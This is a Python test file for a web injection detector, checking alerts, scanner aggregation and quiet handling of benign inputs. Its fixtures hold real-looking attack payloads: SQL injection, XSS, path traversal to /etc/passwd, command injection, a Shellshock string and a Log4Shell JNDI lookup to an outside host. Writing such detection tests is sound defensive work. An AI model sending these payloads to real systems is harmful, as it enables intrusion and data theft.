"""The injection detector on events: one alert per clear attempt, scanners aggregated, benign quiet."""

from __future__ import annotations

from typing import Any

from builders import make_event

from core.event import Event
from detectors.base import DetectorConfig
from detectors.injection import InjectionDetector, build
from detectors.registry import build_all


def http(seconds: float, ip: str = "198.51.100.7", **fields: Any) -> Event:
    base: dict[str, Any] = {"event__dataset": "mlm.http", "event__action": "http_request",
                            "event__category": ["web"], "http__request__method": "GET",
                            "url__path": "/shop", "http__response__status_code": 200, "source__ip": ip}
    base.update({k.replace(".", "__"): v for k, v in fields.items()})
    return make_event(seconds, **base)


def test_a_single_sqli_attempt_alerts_on_the_source_ip(detector: InjectionDetector) -> None:
    event = http(0, **{"url.query": "q=shoes%27%20UNION%20ALL%20SELECT%20NULL%2CNULL--%20-"})
    [alert] = detector.process(event)
    assert (alert.category, alert.entity_type, alert.entity_value) == ("injection", "ip", "198.51.100.7")
    assert alert.rule_id == "injection.sqli" and alert.event_ids == [event.id]
    assert "attack.t1190" in alert.tags and alert.severity == "high"
    assert alert.summary.endswith(".") and "url.query" in alert.summary
    assert alert.extra["injection"]["sample"].startswith("shoes' UNION ALL SELECT")


def test_each_class_alerts_from_each_location(detector: InjectionDetector) -> None:
    cases = [
        ("xss", {"url.query": "name=%3Csvg%2Fonload%3Dalert(1)%3E"}),
        ("traversal", {"url.path": "/static/..%2f..%2f..%2fetc/passwd"}),
        ("traversal", {"url.query": "file=C%3A%5CUsers%5Cadmin%5CNTUSER.DAT"}),
        ("command", {"http.request.body.content": "host=127.0.0.1%3Bcat+%2Fetc%2Fpasswd"}),
        ("ssti", {"http.request.body.content": '{"name": "{{config.items()}}"}'}),
        ("nosql", {"url.query": "user[$ne]=x&password[$ne]=x"}),
        ("command", {"user_agent.original": "() { :; }; /bin/bash -c 'id'"}),
        ("ssti", {"user_agent.original": "${jndi:ldap://198.51.100.9:1389/Exploit}"}),
        ("sqli", {"http.request.referrer": "https://shop.example/?id=1%27%20OR%20%271%27%3D%271"}),
        ("sqli", {"user_agent.original": "Mozilla/5.0 -1 OR 3*2=6"}),  # SQL syntax no browser writes
        ("sqli", {"http.request.referrer": "https://shop.example.com/shop?q=-1+OR+3%2A2%3D6"}),
    ]
    for n, (cls, fields) in enumerate(cases):
        alerts = detector.process(http(n, ip=f"203.0.113.{n + 1}", **fields))
        assert f"injection.{cls}" in [a.rule_id for a in alerts], (cls, fields)


def test_a_scanner_gives_one_scanner_alert_per_window_not_thousands(detector: InjectionDetector) -> None:
    payloads = ["1%27%20AND%20SLEEP(5)--", "%3Cscript%3Ealert(1)%3C%2Fscript%3E", "..%2F..%2Fetc%2Fpasswd",
                "%3Bid", "%7B%7B7*7%7D%7D"]
    alerts, sent = [], []
    for i in range(2000):  # 2000 payloads in 200 s
        event = http(i * 0.1, ip="192.0.2.50", **{"url.query": "q=" + payloads[i % len(payloads)],
                                                 "user_agent.original": "sqlmap/1.7.2#stable"})
        sent.append(event.id)
        alerts.extend(detector.process(event))
    alerts.extend(detector.flush())
    rules = [a.rule_id for a in alerts]
    assert rules.count("injection.scanner") == 1
    # five classes once each, one scanner alert, then one roll-up per 100 further payloads
    assert len(alerts) - rules.count("injection.continued") == 6 and rules.count("injection.continued") == 20
    assert {i for a in alerts for i in a.event_ids} == set(sent)  # every payload is on record
    assert all(len(a.event_ids) <= 100 for a in alerts)
    scanner = next(a for a in alerts if a.rule_id == "injection.scanner")
    assert scanner.severity == "critical" and scanner.risk_score >= 90
    assert len(scanner.event_ids) >= 3 and "sqlmap" in scanner.summary
    # After the window the same source alerts again, once.
    later = [a for i in range(30) for a in detector.process(http(900 + i, ip="192.0.2.50",
                                                                 **{"url.query": "q=" + payloads[0]}))]
    assert [a.rule_id for a in later] == ["injection.sqli", "injection.scanner"]


def test_a_slow_attacker_on_an_idle_bus_gets_few_roll_ups(detector: InjectionDetector) -> None:
    """The live worker flushes after every quiet spell: held evidence goes out in batches, not per payload."""
    alerts = []
    for i in range(60):  # one payload every 5 s for 5 minutes, a flush after each
        alerts += detector.process(http(i * 5.0, ip="192.0.2.77", **{"url.query": "id=1%27%20OR%20%271%27%3D%271"}))
        alerts += detector.flush()
    rollups = [a for a in alerts if a.rule_id == "injection.continued"]
    assert alerts[0].rule_id == "injection.sqli" and 3 <= len(rollups) <= 6
    assert sum(len(a.event_ids) for a in alerts) >= 55  # still (nearly) every payload on record


def test_sqlmap_style_single_class_scan_is_one_attempt_and_one_scanner_alert(detector: InjectionDetector) -> None:
    payloads = ["shoes%27%20AND%204321%3D4321%20AND%20%27abc%27%3D%27abc", "shoes%29%20AND%201234%3D1234%20AND%20%285678%3D5678",
                "shoes%27%20OR%20NOT%202331%3D2331--%20tGqW", "shoes%27%3BSELECT%20PG_SLEEP%285%29--",
                "shoes%20AND%20%28SELECT%201234%20FROM%20%28SELECT%28SLEEP%285%29%29%29abcd%29"]
    alerts = [a for i in range(100) for a in detector.process(
        http(i, ip="127.0.0.1", **{"url.query": "q=" + payloads[i % len(payloads)]}))]
    assert [a.rule_id for a in alerts] == ["injection.sqli", "injection.scanner"]
    assert alerts[1].severity == "high" and alerts[1].entity_value == "127.0.0.1"


HARD_BENIGN = [
    {"url.query": "q=O%27Brien"}, {"http.request.body.content": "note=synced+from+C%3A%5CUsers%5Cme%5CDocuments"}, {"url.query": "q=select+your+plan"}, {"url.query": "q=drop+shipping"},
    {"url.query": "q=credit+union"}, {"url.query": "q=%3Cb%3ENew%3C%2Fb%3E+Glow+Serum"},
    {"url.query": "q=2%2B2%3D4"}, {"url.query": "q=dog+%26+cat+toys"}, {"url.query": "q=it%27s+5%27+10%22"},
    {"url.query": "email=amy.o%27neil%40example.com&page=2"}, {"url.query": "q=cat+food"},
    {"http.request.body.content": '{"note": "Leave at door; ring bell", "ship_to": {"line1": "1 O\'Connell St"}}'},
    {"http.request.body.content": "name=D%27Angelo&message=Order+by+Friday+--+thanks%21"},
    {"url.query": "q=x%3C5+and+y%3E3"}, {"url.query": "q=100%25+natural"}, {"url.query": "q=%245+off"},
    {"url.path": "/static/app.js"}, {"url.path": "/api/genealogy/D-1001/downline"},
    {"user_agent.original": "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
                            "Chrome/120.0.0.0 Safari/537.36"},
    {"http.request.referrer": "https://www.google.com/search?q=best+vitamin+c&hl=en"},
]


def test_hard_benign_values_stay_quiet(detector: InjectionDetector) -> None:
    for n, fields in enumerate(HARD_BENIGN):
        assert detector.process(http(n, **fields)) == [], fields


def test_other_datasets_and_empty_requests_are_ignored(detector: InjectionDetector) -> None:
    assert detector.process(make_event(0, user__name="admin' OR 1=1--")) == []
    assert detector.process(http(1)) == []


def test_hostile_input_never_crashes(detector: InjectionDetector) -> None:
    junk = ["%" * 4096, "\x00" * 4096, "[" * 4000, "&" * 4000, "\ud800".encode("utf-8", "surrogatepass")
            .decode("utf-8", "replace") * 100, "=" * 4096, "{" + '"a":' * 1000]
    for n, text in enumerate(junk):
        detector.process(http(n, **{"url.query": text, "http.request.body.content": text, "url.path": "/" + text}))


def test_build_returns_the_family_and_the_registry_finds_it(tmp_path: Any) -> None:
    [detector] = build(DetectorConfig(models_dir=tmp_path))
    assert detector.name == "injection" and (tmp_path / "injection_model.npz").is_file()
    [again] = build(DetectorConfig(models_dir=tmp_path))  # loads what was saved
    assert again.analyzer.model is not None
    names = [d.name for d in build_all(DetectorConfig(families=["injection"]))]
    assert names == ["injection"]


def test_cached_verdicts_are_the_verdicts_and_caches_stay_bounded(model: Any) -> None:
    from detectors.injection import analyzer as analyzer_module
    from detectors.injection.analyzer import Analyzer

    cached, fresh = Analyzer(model=model), Analyzer(model=model)

    def uncached(fields: dict[str, str]) -> list[Any]:
        for cache in [c for _, c in fresh._caches] + list(fresh._parts):
            cache.clear()
        return fresh.findings(fields)

    bodies = [f"username=m{n}&password=%5BREDACTED%5D&next=%2Fshop%3Fq%3D1%27" for n in range(50)]
    for body in bodies * 2:  # the second round is served from the caches
        fields = {"http.request.body.content": body, "url.path": f"/api/orders/{len(body)}'"}
        assert cached.findings(fields) == uncached(fields) != []
    limit = analyzer_module.CACHE_SIZE
    for n in range(limit + 10):  # a stream of unique values never grows the caches past the limit
        cached.findings({"url.query": f"page={n}&q=item{n}", "url.path": f"/p/{n}"})
    assert all(len(cache) <= limit for _, cache in cached._caches)
    assert all(len(cache) <= limit for cache in cached._parts)
